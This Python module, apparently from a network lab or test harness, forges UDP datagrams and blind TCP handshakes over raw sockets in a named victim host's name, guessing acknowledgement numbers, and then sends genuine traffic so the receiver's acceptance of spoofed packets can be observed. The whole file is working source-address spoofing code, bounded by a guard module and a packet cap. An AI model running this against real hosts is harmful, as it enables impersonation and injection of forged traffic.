"""Send datagrams and open connections in another host's name, then once in one's own."""

from __future__ import annotations

import random
import socket

from . import guard, packets

MAX_COUNT = 64
GUESSES = 4  # acknowledgements of a number that went to somebody else, a connection
FIRST_PORT = 40_000
WAIT_S = 5.0


def main() -> None:
    """Forge, then be honest, so that it is known that the receiver takes what comes."""
    told = guard.take_order()
    victim, receiver = (guard.address_of(told["targets"][told[n]]) for n in ("victim", "receiver"))
    target = (receiver, int(told["port"]))
    chance = random.Random(told["seed"])  # noqa: S311 -- guesses, the same each time
    count = min(int(told["count"]), MAX_COUNT)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for number in range(count):
            source = (victim, FIRST_PORT + number)
            raw.sendto(packets.udp(source, target, f"forged {number}".encode()), (receiver, 0))
        for number in range(count):
            source, sequence = (victim, FIRST_PORT + number), chance.getrandbits(32)
            raw.sendto(packets.tcp(source, target, sequence, 0, packets.SYN), (receiver, 0))
            for _ in range(GUESSES):
                segment = packets.tcp(
                    source,
                    target,
                    (sequence + 1) % 2**32,
                    chance.getrandbits(32),
                    packets.ACK | packets.PSH,
                    f"forged {number}".encode(),
                )
                raw.sendto(segment, (receiver, 0))
    guard.say(event="forged", datagrams=count, connections=count, guesses=GUESSES * count)
    with socket.create_connection(target, timeout=WAIT_S) as honest:
        honest.sendall(b"honest")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as honest:
        honest.sendto(b"honest", target)
    guard.say(event="honest")


if __name__ == "__main__":
    main()
